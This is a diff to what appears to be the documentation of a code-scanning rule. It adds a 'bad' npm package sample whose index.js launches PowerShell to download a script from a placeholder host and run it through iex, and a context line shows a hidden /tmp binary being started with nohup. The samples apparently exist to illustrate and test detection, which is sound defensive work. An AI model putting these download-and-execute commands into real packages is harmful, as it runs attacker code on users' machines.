@@ -36,6 +36,14 @@
 //! chmod +x /tmp/.gh && nohup /tmp/.gh >/dev/null 2>&1 &
 //! ```
 //!
+//! ```package
+//! == package.json
+//! {"name": "x", "version": "1.0.0", "main": "index.js"}
+//! == index.js
+//! const { exec } = require("child_process");
+//! exec('powershell -NoProfile "iwr https://theme.invalid/s.ps1 -UseBasicParsing | iex"'); //~ here
+//! ```
+//!
 //! ## Good
 //!
 //! ```package
